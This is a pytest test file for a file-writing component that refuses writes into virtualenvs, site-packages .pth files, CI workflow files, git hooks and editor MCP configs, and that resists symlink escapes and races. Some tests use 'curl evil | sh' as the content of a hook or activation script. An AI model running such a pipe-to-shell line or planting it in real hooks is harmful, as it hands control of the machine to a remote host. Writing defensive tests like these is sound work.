"""Tests for SafeWriter confinement: protected places and allow_paths, the allowed root, symlink races, backups."""

from __future__ import annotations

import os
import re
import subprocess
import sys
import time
from pathlib import Path

import pytest

from speedrun.errors import FileProtocolError, InputError
from speedrun.files import SafeWriter, check_output_dir, normalize_relpath, parse_allow_paths
from speedrun.state.records import FileError, GeneratedFile, WrittenFile


def write(writer: SafeWriter, path: str, content: str = "x\n") -> WrittenFile | FileError:
    return writer.write(GeneratedFile(path=path, content=content))


def files_under(path: Path) -> list[str]:
    return sorted(str(p.relative_to(path)) for p in path.rglob("*") if not p.is_dir())


# ---------------------------------------------------------------------------------------------------
# Places that run code outside the tests
# ---------------------------------------------------------------------------------------------------

# (path, what the reason must say, allow entry that names the place)
PROTECTED = [
    (".venv/bin/activate", r"inside '\.venv'.*virtualenv.*bin/activate.*outside the tests", ".venv/"),
    ("lib/python3.12/site-packages/evil.pth", r"inside 'site-packages'.*\.pth files", "lib/python3.12/site-packages/"),
    ("usr/lib/python3/dist-packages/x.pth", r"inside 'dist-packages'.*\.pth", "usr/lib/python3/dist-packages/x.pth"),
    ("pyvenv.cfg", r"'pyvenv\.cfg'.*virtualenv", "pyvenv.cfg"),
    (".github/workflows/ci.yml", r"inside '\.github/workflows'.*GitHub Actions", ".github/workflows/"),
    ("sub/.github/workflows/release.yaml", r"inside '\.github/workflows'", "sub/.github/workflows/release.yaml"),
    (".gitlab-ci.yml", r"'\.gitlab-ci\.yml'.*GitLab CI runs the jobs", ".gitlab-ci.yml"),
    (".husky/pre-commit", r"inside '\.husky'.*husky runs the git hooks", ".husky/"),
    (".pre-commit-config.yaml", r"'\.pre-commit-config\.yaml'.*pre-commit runs the hooks", ".pre-commit-config.yaml"),
    (".gitmodules", r"'\.gitmodules'.*submodule", ".gitmodules"),
    ("vendor/.gitattributes", r"'\.gitattributes'.*filters", "vendor/.gitattributes"),
    (".cursor/mcp.json", r"inside '\.cursor'.*Cursor.*MCP servers", ".cursor/"),
    (".devcontainer/devcontainer.json", r"inside '\.devcontainer'.*lifecycle commands", ".devcontainer/"),
    (".Cursor/rules/x.mdc", r"inside '\.Cursor'", ".Cursor/"),
]


@pytest.mark.parametrize(("path", "pattern", "entry"), PROTECTED)
def test_protected_place_refused_with_its_reason(tmp_path, path, pattern, entry):
    with pytest.raises(FileProtocolError) as info:
        normalize_relpath(path)
    assert re.search(pattern, str(info.value)), str(info.value)
    result = write(SafeWriter(tmp_path), path)
    assert isinstance(result, FileError)
    assert re.search(pattern, result.error), result.error
    assert "allow_paths" in result.error  # the refusal says how to get the file anyway
    assert files_under(tmp_path) == []


@pytest.mark.parametrize(("path", "pattern", "entry"), PROTECTED)
def test_protected_place_written_when_named(tmp_path, path, pattern, entry):
    assert normalize_relpath(path, allow_paths=[entry]) == path
    writer = SafeWriter(tmp_path, allow_paths=[entry])
    result = write(writer, path, "named by the user\n")
    assert isinstance(result, WrittenFile), result
    assert (tmp_path / path).read_text() == "named by the user\n"
    # Only what was named: a sibling protected file is still refused.
    assert isinstance(write(writer, ".gitlab-ci.yml" if path != ".gitlab-ci.yml" else ".gitmodules"), FileError)


def test_directory_holding_pyvenv_cfg_is_a_virtualenv(tmp_path):
    (tmp_path / "env" / "bin").mkdir(parents=True)
    (tmp_path / "env" / "pyvenv.cfg").write_text("home = /usr/bin\n")
    writer = SafeWriter(tmp_path)
    result = write(writer, "env/bin/activate", "curl evil | sh\n")
    assert isinstance(result, FileError)
    assert re.search(r"inside 'env'.*holds pyvenv\.cfg.*virtualenv.*name 'env/' in allow_paths", result.error)
    assert not (tmp_path / "env" / "bin" / "activate").exists()
    # A plain directory of the same shape is not protected.
    assert isinstance(write(writer, "tools/bin/activate"), WrittenFile)
    # The hint works: the named place is written, and an exact entry lifts only its own file.
    assert isinstance(write(SafeWriter(tmp_path, allow_paths=["env/"]), "env/bin/activate"), WrittenFile)
    exact = SafeWriter(tmp_path, allow_paths=["env/bin/python3.pth"])
    assert isinstance(write(exact, "env/bin/python3.pth"), WrittenFile)
    assert isinstance(write(exact, "env/bin/pip"), FileError)


def test_neighbours_of_protected_places_are_fine(tmp_path):
    writer = SafeWriter(tmp_path)
    for path in (
        ".github/ISSUE_TEMPLATE/bug.md",
        ".github/dependabot.yml",
        "workflows/ci.yml",
        ".gitignore",
        "src/venv_utils.py",
        "docs/.husky.md",
        "site_packages.py",
    ):
        assert isinstance(write(writer, path), WrittenFile), path


def test_broad_allow_entry_does_not_lift_a_place_below_it(tmp_path):
    writer = SafeWriter(tmp_path, allow_paths=["src/", "pkg/"])
    for path in ("src/.git/hooks/pre-commit", "pkg/.github/workflows/ci.yml", "src/.venv/bin/activate"):
        result = write(writer, path)
        assert isinstance(result, FileError) and "refusing to write inside" in result.error, path
    assert files_under(tmp_path) == []


def test_git_internals_only_when_named_explicitly(tmp_path):
    # Decision: .git/ is a protected place like the others; an entry naming it (or a path inside it) lifts it.
    for broad in (".", "./", "/"):
        with pytest.raises(InputError, match="whole directory|not a usable"):
            SafeWriter(tmp_path, allow_paths=[broad])
    writer = SafeWriter(tmp_path, allow_paths=[".git/hooks/pre-commit"])
    assert isinstance(write(writer, ".git/hooks/pre-commit", "#!/bin/sh\n"), WrittenFile)
    assert isinstance(write(writer, ".git/config"), FileError)


def test_speedrun_state_never_lifted(tmp_path):
    result = write(SafeWriter(tmp_path, allow_paths=[".speedrun/"]), ".speedrun/backups/x.py")
    assert isinstance(result, FileError) and "speed-run's own state" in result.error
    assert "allow_paths" not in result.error
    assert not (tmp_path / ".speedrun").exists()


@pytest.mark.parametrize("entry", ["/etc/", "../x", "a/../../b", "C:/x", "a\x00b", "~/.ssh/"])
def test_bad_allow_entry_is_an_input_error(tmp_path, entry):
    with pytest.raises(InputError) as info:
        SafeWriter(tmp_path, allow_paths=[entry])
    assert "allow_paths entry" in str(info.value)
    assert not any(tmp_path.iterdir())


def test_allow_paths_from_one_env_string():
    assert parse_allow_paths(".github/workflows/, .gitlab-ci.yml:\n./.husky//") == (
        ".github/workflows/",
        ".gitlab-ci.yml",
        ".husky/",
    )


# ---------------------------------------------------------------------------------------------------
# The allowed root (confine_to) and check_output_dir
# ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("sub", "pattern"),
    [
        (".git/hooks", r"inside '\.git'"),
        (".claude", r"inside '\.claude'"),
        (".github/workflows", r"inside '\.github/workflows'"),
    ],
)
def test_output_dir_inside_protected_place_refused(tmp_path, sub, pattern):
    out = tmp_path / sub
    out.mkdir(parents=True)
    writer = SafeWriter(out, confine_to=tmp_path)
    for path in ("pre-commit", "settings.json", "ci.yml"):
        result = write(writer, path, "#!/bin/sh\ncurl evil | sh\n")
        assert isinstance(result, FileError)
        assert re.search(pattern, result.error), result.error
    assert list(out.iterdir()) == []

    with pytest.raises(InputError) as info:
        check_output_dir(out, tmp_path)
    message = str(info.value)
    assert str(out) in message and re.search(pattern, message) and "Choose another output_dir" in message
    assert f"'{sub}/' in allow_paths (SPEEDRUN_ALLOW_PATHS)" in message


def test_output_dir_inside_protected_place_allowed_when_named(tmp_path):
    out = tmp_path / ".git" / "hooks"
    check_output_dir(out, tmp_path, allow_paths=[".git/hooks/"])
    assert out.is_dir()
    writer = SafeWriter(out, confine_to=tmp_path, allow_paths=[".git/hooks/pre-commit"])
    assert isinstance(write(writer, "pre-commit", "#!/bin/sh\n"), WrittenFile)
    assert isinstance(write(writer, "post-checkout"), FileError)
    assert sorted(p.name for p in out.iterdir()) == ["pre-commit"]


def test_output_dir_reaching_protected_place_through_symlink(tmp_path):
    (tmp_path / ".git" / "hooks").mkdir(parents=True)
    (tmp_path / "hooks").symlink_to(tmp_path / ".git" / "hooks")
    result = write(SafeWriter(tmp_path / "hooks", confine_to=tmp_path), "pre-commit")
    assert isinstance(result, FileError) and "'.git'" in result.error
    with pytest.raises(InputError, match=r"inside '\.git'"):
        check_output_dir(tmp_path / "hooks", tmp_path)
    assert list((tmp_path / ".git" / "hooks").iterdir()) == []


def test_allow_paths_relative_to_output_dir_or_allowed_root(tmp_path):
    out = tmp_path / "app"
    writer = SafeWriter(out, confine_to=tmp_path)
    result = write(writer, ".github/workflows/ci.yml")
    # The hint is written the way reply paths are: relative to the output directory.
    assert isinstance(result, FileError) and "name '.github/workflows/ci.yml' in allow_paths" in result.error
    for entry in (".github/workflows/", "app/.github/workflows/ci.yml"):
        writer = SafeWriter(out, confine_to=tmp_path, allow_paths=[entry])
        assert isinstance(write(writer, ".github/workflows/ci.yml"), WrittenFile), entry
    # An entry relative to the output dir cannot reach a place above it: only the allowed-root spelling can.
    hooks = tmp_path / ".git" / "hooks"
    assert isinstance(
        write(SafeWriter(hooks, confine_to=tmp_path, allow_paths=["pre-commit"]), "pre-commit"), FileError
    )


def test_symlink_into_workflows_refused_and_named_place_allowed(tmp_path):
    (tmp_path / ".github" / "workflows").mkdir(parents=True)
    (tmp_path / "ci").symlink_to(tmp_path / ".github" / "workflows")
    result = write(SafeWriter(tmp_path), "ci/deploy.yml", "on: push\n")
    assert isinstance(result, FileError)
    assert "inside '.github/workflows'" in result.error and "'.github/workflows/' in allow_paths" in result.error
    assert list((tmp_path / ".github" / "workflows").iterdir()) == []
    allowed = SafeWriter(tmp_path, allow_paths=[".github/workflows/"])
    assert isinstance(write(allowed, "ci/deploy.yml", "on: push\n"), WrittenFile)
    assert (tmp_path / ".github" / "workflows" / "deploy.yml").read_text() == "on: push\n"


def test_output_dir_outside_allowed_root(tmp_path):
    root, other = tmp_path / "root", tmp_path / "other"
    root.mkdir()
    (root / "escape").symlink_to(other, target_is_directory=True)
    result = write(SafeWriter(root / "escape", confine_to=root), "a.py")
    assert isinstance(result, FileError) and "outside the allowed root" in result.error
    with pytest.raises(InputError, match="outside the allowed root"):
        check_output_dir(root / "escape", root)
    assert not other.exists()


def test_output_dir_inside_a_virtualenv(tmp_path):
    (tmp_path / "myenv" / "lib").mkdir(parents=True)
    (tmp_path / "myenv" / "pyvenv.cfg").write_text("home = /usr/bin\n")
    with pytest.raises(InputError, match=r"inside 'myenv'.*pyvenv\.cfg"):
        check_output_dir(tmp_path / "myenv" / "lib", tmp_path)
    result = write(SafeWriter(tmp_path / "myenv" / "lib", confine_to=tmp_path), "x.pth", "import os\n")
    assert isinstance(result, FileError) and "pyvenv.cfg" in result.error
    assert not (tmp_path / "myenv" / "lib" / "x.pth").exists()


def test_check_output_dir_that_is_a_file(tmp_path):
    (tmp_path / "out").write_text("a file\n")
    with pytest.raises(InputError) as info:
        check_output_dir(tmp_path / "out", tmp_path)
    assert str(tmp_path / "out") in str(info.value) and "not a directory" in str(info.value)


def test_check_output_dir_that_cannot_be_created(tmp_path):
    (tmp_path / "blocker").write_text("a file\n")
    with pytest.raises(InputError) as info:
        check_output_dir(tmp_path / "blocker" / "out", tmp_path)
    assert "blocker" in str(info.value) and "Choose another output_dir" in str(info.value)

    locked = tmp_path / "locked"
    locked.mkdir(mode=0o500)
    if os.geteuid() != 0:  # root ignores directory permissions
        with pytest.raises(InputError, match="Permission denied"):
            check_output_dir(locked / "out", tmp_path)


def test_check_output_dir_creates_a_fresh_dir(tmp_path):
    check_output_dir(tmp_path / "a" / "b", tmp_path)
    assert (tmp_path / "a" / "b").is_dir()
    check_output_dir(tmp_path, tmp_path)  # the allowed root itself is fine


def test_output_dir_that_is_its_own_allowed_root_is_created(tmp_path):
    out = tmp_path / "new" / "out"
    check_output_dir(out, out)
    assert out.is_dir()
    fresh = tmp_path / "fresh"
    assert isinstance(write(SafeWriter(fresh, confine_to=fresh), "a.py"), WrittenFile)
    (tmp_path / "file").write_text("x")
    with pytest.raises(InputError, match="cannot be created"):
        check_output_dir(tmp_path / "file" / "out", tmp_path / "file" / "out")


def test_check_output_dir_bounds_the_echo(tmp_path):
    (tmp_path / "f").write_text("x")
    with pytest.raises(InputError) as info:
        check_output_dir(tmp_path / "f" / ("x" * 5000), tmp_path)
    assert len(str(info.value)) < 800


# ---------------------------------------------------------------------------------------------------
# Backups and temp files obey the same confinement
# ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("link", [".speedrun", ".speedrun/backups"])
def test_speedrun_symlink_cannot_carry_backups_outside(tmp_path, link):
    root, outside = tmp_path / "root", tmp_path / "outside"
    root.mkdir()
    outside.mkdir()
    (root / link).parent.mkdir(parents=True, exist_ok=True)
    (root / link).symlink_to(outside, target_is_directory=True)
    (root / "a.py").write_text("precious\n")
    writer = SafeWriter(root)
    result = write(writer, "a.py", "new\n")
    assert isinstance(result, FileError)
    assert "could not back up" in result.error and "symlink" in result.error and "left unchanged" in result.error
    assert (root / "a.py").read_text() == "precious\n"
    assert list(outside.iterdir()) == []
    # New files need no backup, so they still go through.
    assert isinstance(write(writer, "b.py"), WrittenFile)
    assert list(outside.iterdir()) == []


def test_backup_keeps_mode_and_mtime(tmp_path):
    (tmp_path / "run.sh").write_text("echo old\n")
    os.chmod(tmp_path / "run.sh", 0o750)
    os.utime(tmp_path / "run.sh", ns=(1_600_000_000_000_000_000, 1_600_000_000_000_000_000))
    result = write(SafeWriter(tmp_path), "run.sh", "echo new\n")
    backup = Path(result.backup)
    assert backup.read_text() == "echo old\n"
    assert backup.stat().st_mode & 0o777 == 0o750
    assert backup.stat().st_mtime_ns == 1_600_000_000_000_000_000


@pytest.mark.parametrize(
    "name",
    [
        "n" * 248 + ".py",  # 251 bytes
        "漢" * 83 + ".x",  # 251 bytes in 85 characters: a temp name built from the target's name would be too long
        "😀" * 62 + ".py",  # 251 bytes in 65 characters
        "字" * 84 + ".py",  # 255 bytes, the limit
    ],
)
def test_long_file_names_write_and_back_up(tmp_path, name):
    assert len(name.encode()) in (251, 255)
    first = write(SafeWriter(tmp_path), f"pkg/{name}", "v = 1\n")
    assert isinstance(first, WrittenFile), first
    second = write(SafeWriter(tmp_path), f"pkg/{name}", "v = 2\n")
    assert isinstance(second, WrittenFile) and second.action == "modified", second
    assert (tmp_path / "pkg" / name).read_text() == "v = 2\n"
    assert Path(second.backup).read_text() == "v = 1\n"
    assert not [p for p in tmp_path.rglob("*.tmp")]


def test_name_over_the_limit_is_refused_clearly(tmp_path):
    result = write(SafeWriter(tmp_path), "a" * 256 + ".py")
    assert isinstance(result, FileError)
    assert "259 bytes" in result.error and "at most 255" in result.error
    assert len(result.error) < 300


# ---------------------------------------------------------------------------------------------------
# Odd characters in paths
# ---------------------------------------------------------------------------------------------------


def test_bom_in_path_is_stripped(tmp_path):
    writer = SafeWriter(tmp_path)
    result = write(writer, "\ufeffsrc/\ufeffapp.py")
    assert isinstance(result, WrittenFile) and result.path == "src/app.py"
    assert (tmp_path / "src" / "app.py").exists()
    with pytest.raises(FileProtocolError, match=r"inside '\.git'"):
        normalize_relpath("\ufeff.git/hooks/x")


@pytest.mark.parametrize(
    ("path", "pattern"),
    [
        ("a\udc80.py", r"lone surrogate U\+DC80"),
        ("src/\ud800x.py", r"lone surrogate U\+D800"),
        ("evil\u202e.py", r"direction control U\+202E"),
        ("a\u2028b.py", r"control character U\+2028"),
    ],
)
def test_odd_characters_refused_without_traceback(tmp_path, path, pattern):
    with pytest.raises(FileProtocolError, match=pattern):
        normalize_relpath(path)
    result = write(SafeWriter(tmp_path), path)
    assert isinstance(result, FileError) and re.search(pattern, result.error)
    result.model_dump_json()  # the refusal itself can be sent to a client
    assert list(tmp_path.iterdir()) == []


# ---------------------------------------------------------------------------------------------------
# The symlink race: the check and the write are one operation
# ---------------------------------------------------------------------------------------------------


# Runs in its own process, so it really runs at the same time as the writes (a thread would mostly wait for the GIL).
# 'sub' is a symlink flipped atomically between a directory inside the root and one outside it: every check
# made through a path can be true when made and false when the write lands.
SWAPPER = r"""
import os, sys
root, outside, stop = sys.argv[1:4]
sub, real, tmp = os.path.join(root, "sub"), os.path.join(root, "real"), os.path.join(root, "flip")
n = 0
while not os.path.exists(stop):
    for target in (outside, real):
        try:
            os.symlink(target, tmp)
        except FileExistsError:
            pass
        os.replace(tmp, sub)
        n += 1
print(n)
"""


def test_concurrent_symlink_swapper_never_lets_a_write_escape(tmp_path):
    root, outside, stop = tmp_path / "root", tmp_path / "outside", tmp_path / "stop"
    (root / "real").mkdir(parents=True)
    (root / "sub").symlink_to(root / "real")
    outside.mkdir()
    swapper = subprocess.Popen(
        [sys.executable, "-c", SWAPPER, str(root), str(outside), str(stop)], stdout=subprocess.PIPE, text=True
    )
    written = refused = 0
    try:
        deadline = time.monotonic() + 3.0
        i = 0
        while time.monotonic() < deadline:
            writer = SafeWriter(root)
            for path in (f"sub/f{i}.py", f"sub/deep/f{i}.py"):
                result = write(writer, path, f"n = {i}\n")
                if isinstance(result, WrittenFile):
                    written += 1
                else:
                    refused += 1
                    assert result.error and "Traceback" not in result.error
            i += 1
    finally:
        stop.touch()
        swaps = int(swapper.communicate(timeout=10)[0] or 0)
    escaped = files_under(outside)
    assert escaped == [], f"{len(escaped)} of {written + refused} writes escaped the root"
    # The race really ran, both ways: flips happened, some writes went through the link, some were refused.
    assert swaps > 100 and written > 20 and refused > 20, (swaps, written, refused)
    assert not [p for p in root.rglob("*") if p.name.endswith(".tmp")]
